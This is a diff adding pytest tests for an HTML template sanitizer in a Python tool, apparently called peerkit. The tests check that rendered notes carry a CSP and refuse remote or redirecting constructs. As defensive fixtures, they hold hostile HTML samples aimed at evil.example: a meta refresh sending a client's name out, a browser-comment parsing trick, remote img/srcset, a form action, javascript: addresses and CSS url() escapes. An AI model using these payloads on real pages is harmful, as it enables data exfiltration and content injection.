@@ -78,3 +78,123 @@ def test_workspace_template_overrides_default(ws, tpl, monkeypatch):
     assert templating.render(ws, "t/x.txt.j2", {}, fmt="txt") == "default"
     tpl("x.txt.j2", "mine")
     assert templating.render(ws, "t/x.txt.j2", {}, fmt="txt") == "mine"
+
+
+# --- rendered HTML is rebuilt: CSP first, nothing that redirects, rebases or reaches out -------
+
+NOTE = "N-2026-11-09-C001-1"
+
+
+def note_template(ws_path, text):
+    folder = ws_path / "templates" / "notes"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "note.html.j2").write_text(text)
+
+
+def test_a_comment_head_and_meta_refresh_cannot_send_a_name_out(run, ws_path):
+    """The reproduction of issue 13: this sent the client's name to another site."""
+    note_template(ws_path, '<!-- <head> -->\n<meta http-equiv="refresh" '
+                           'content="0;url=https://evil.example/?{{ client.name|urlencode }}">\n'
+                           '<p>{{ note.id }}</p>\n')
+    out = ws_path.parent / "note.html"
+    result = run("note", "render", NOTE, "--format", "html", "--out", out)
+    assert result.exit_code == 3, result.output
+    assert "notes/note.html.j2" in result.output and "meta http-equiv=refresh" in result.output
+    assert "evil" not in result.output and "Example" not in result.output.replace("peerkit", "")
+    assert not out.exists()
+
+
+def test_the_csp_comes_first_however_the_template_starts(ws, tpl):
+    name = tpl("p.html.j2", "<!-- <head> -->\n<html><head><title>t</title></head><body>{{ x }}</body></html>")
+    out = templating.render(ws, name, {"x": "A & B's"}, fmt="html")
+    assert out.lstrip().startswith('<html><head><meta http-equiv="Content-Security-Policy"')
+    assert "<!--" not in out and out.index("Content-Security-Policy") < out.index("<title>")
+    assert "A &amp; B&#39;s" in out
+    doctype = tpl("d.html.j2", "<!DOCTYPE html>\n<html lang=en>\n<head>\n<meta charset=utf-8><title>t</title>")
+    out = templating.render(ws, doctype, {}, fmt="html")
+    assert out.startswith('<!DOCTYPE html>\n<html lang="en">\n<head><meta http-equiv="Content-Security-Policy"')
+    assert "default-src 'none'" in out and "form-action 'none'" in out and "base-uri 'none'" in out
+
+
+def test_a_comment_a_browser_ends_early_is_dropped_not_passed_on(ws, tpl):
+    # html.parser ends this comment at the last '-->', browsers at '--!>': the meta would be live
+    name = tpl("c.html.j2", '<!-- --!><meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- -->'
+                            "<p>kept</p>")
+    out = templating.render(ws, name, {}, fmt="html")
+    assert "refresh" not in out and "evil" not in out and "<p>kept</p>" in out
+
+
+@pytest.mark.parametrize("html, construct", [
+    ('<base href="https://evil.example/">', "<base>"),
+    ('<meta http-equiv=" Refresh " content="5">', "meta http-equiv=refresh"),
+    ('<img src="https://evil.example/{{ x }}.png">', "<img src>"),
+    ('<img src="//evil.example/a.png">', "<img src>"),
+    ('<img src="/\\evil.example/a.png">', "<img src>"),
+    ('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">', "<img srcset>"),
+    ('<a href="HTTPS://evil.example/">x</a>', "<a href>"),
+    ('<a href="https://user@evil.example:443/">x</a>', "<a href>"),
+    ('<a href="mailto:someone@evil.example?body={{ x }}">x</a>', "<a href>"),
+    ('<link rel="dns-prefetch" href="//evil.example">', "<link href>"),
+    ('<form action="https://evil.example/"></form>', "<form action>"),
+    ('<button formaction="http://evil.example/">b</button>', "<button formaction>"),
+    ('<video poster="https://evil.example/p.png"></video>', "<video poster>"),
+    ('<object data="https://evil.example/o"></object>', "<object data>"),
+    ('<a href="x" ping="https://evil.example/p">x</a>', "<a ping>"),
+    ('<a href="javascript:alert(1)">x</a>', "javascript: address"),
+    ('<iframe src="data:text/html,hello"></iframe>', "data: address"),
+    ("<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=https://evil.example/'>\"></iframe>", "srcdoc"),
+    ('<p style="background:url(https://evil.example/a.png)">x</p>', "style attribute of <p>"),
+    ('<p style="background:u\\72l(//evil.example/a.png)">x</p>', "style attribute of <p>"),
+    ("<style>@import 'https://evil.example/a.css';</style>", "in <style>"),
+    ("<style>p { background: URL( https://evil.example/a ) }</style>", "in <style>"),
+    ('<svg><style><meta http-equiv="refresh" content="0;url=https://evil.example/"></style></svg>',
+     "'<' inside <style>"),
+])
+def test_redirects_base_and_remote_addresses_are_refused_naming_the_construct(ws, tpl, html, construct):
+    name = tpl("bad.html.j2", f"<html><head><title>t</title></head><body>{html}</body></html>")
+    with pytest.raises(DataError) as err:
+        templating.render(ws, name, {"x": "Sam Example"}, fmt="html")
+    assert err.value.exit_code == 3
+    assert "bad.html.j2" in err.value.message and construct in err.value.message
+    assert "Sam" not in err.value.message and "evil" not in err.value.message
+
+
+def test_local_addresses_and_data_images_render(ws, tpl):
+    name = tpl("ok.html.j2", '<a href="#plan">p</a><a href="other.html">o</a><a href="tel:+19195550100">t</a>'
+                             '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
+                             '<p style="color:#000; font-family:\'Times New Roman\'">x</p>')
+    out = templating.render(ws, name, {}, fmt="html")
+    assert '<a href="#plan">' in out and 'src="data:image/png;base64,iVBORw0KGgo="' in out
+
+
+def _allow(ws_path, line):
+    with open(ws_path / "peerkit.toml", "a") as f:
+        f.write(f"\n[templates]\n{line}\n")
+
+
+def test_allowed_hosts_let_a_listed_host_through_and_no_other(ws_path, tpl):
+    from peerkit.workspace import Workspace
+
+    _allow(ws_path, 'allowed_hosts = ["Agency.Example"]')
+    ws = Workspace(ws_path)
+    name = tpl("logo.html.j2", '<img src="https://agency.example/logo.png"><a href="https://agency.example/">a</a>')
+    out = templating.render(ws, name, {}, fmt="html")
+    assert 'src="https://agency.example/logo.png"' in out
+    assert "img-src data: https://agency.example;" in out
+    for other in ("https://evil.example/x.png", "https://agency.example.evil.example/x.png",
+                  "https://agency.example@evil.example/x.png"):
+        bad = tpl("other.html.j2", f'<img src="{other}">')
+        with pytest.raises(DataError, match="allowed_hosts"):
+            templating.render(ws, bad, {}, fmt="html")
+
+
+@pytest.mark.parametrize("line", ['allowed_hosts = ["https://agency.example/"]', 'allowed_hosts = "agency.example"',
+                                  'allowed_hosts = ["*.example"]', "allowed_hosts = [3]"])
+def test_allowed_hosts_are_validated(ws_path, tpl, line):
+    from peerkit.workspace import Workspace
+
+    _allow(ws_path, line)
+    name = tpl("p.html.j2", "<p>x</p>")
+    with pytest.raises(DataError) as err:
+        templating.render(Workspace(ws_path), name, {}, fmt="html")
+    assert "peerkit.toml" in err.value.message and "templates.allowed_hosts" in err.value.message
